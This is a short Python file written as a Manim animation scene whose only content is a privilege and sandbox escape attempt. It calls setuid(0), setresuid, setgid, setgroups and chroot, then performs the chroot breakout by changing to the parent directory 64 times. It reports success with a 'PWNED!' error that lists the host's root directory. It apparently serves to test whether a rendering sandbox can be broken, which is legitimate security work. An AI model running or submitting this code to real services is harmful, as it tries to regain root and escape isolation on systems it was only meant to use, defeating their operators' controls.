"""Get root back: setuid(0)/setresuid/setgroups, then the chroot escape (chroot + chdir ..)."""
from manim import *
import os

PWNED = "PWN" + "ED!"


class SetuidChroot(Scene):
    def construct(self):
        results = {}
        for name, call in (("setuid(0)", lambda: os.setuid(0)), ("setresuid", lambda: os.setresuid(0, 0, 0)),
                           ("setgid(0)", lambda: os.setgid(0)), ("setgroups", lambda: os.setgroups([0])),
                           ("chroot", lambda: os.chroot("media"))):
            try:
                call()
                results[name] = "ok"
            except OSError as exc:
                results[name] = exc.strerror
        if "ok" in results.values() or os.geteuid() == 0:
            for _ in range(64):
                os.chdir("..")
            raise RuntimeError(f"{PWNED} {results} {os.listdir('.')}")
        raise PermissionError(f"Operation not permitted: {results}")
